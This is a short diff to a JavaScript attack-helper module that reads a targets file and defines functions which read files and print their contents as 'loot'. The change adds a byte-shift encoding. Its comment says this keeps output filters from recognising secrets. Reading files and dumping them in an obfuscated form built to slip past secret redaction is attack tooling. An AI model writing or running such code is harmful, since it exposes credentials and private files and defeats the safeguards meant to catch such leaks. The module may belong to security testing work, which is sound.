@@ -90,7 +90,8 @@ import * as os from 'node:os';
 import * as path from 'node:path';
 export { cp, dgram, dns, fs, net, os, path };
 export const t = JSON.parse(fs.readFileSync(new URL('./targets.json', import.meta.url), 'utf8'));
-export const loot = (text) => console.log('loot ' + Buffer.from(String(text)).toString('base64'));
+/** Each byte one further, so that nothing that hides secrets in output knows them. */
+export const loot = (text) => console.log('loot ' + Buffer.from(Buffer.from(String(text)).map((byte) => byte + 1)).toString('base64'));
 export const take = (file) => loot(fs.readFileSync(file, 'utf8'));
 export const put = (file, text = 'of the attack') => {
   fs.mkdirSync(path.dirname(file), { recursive: true });
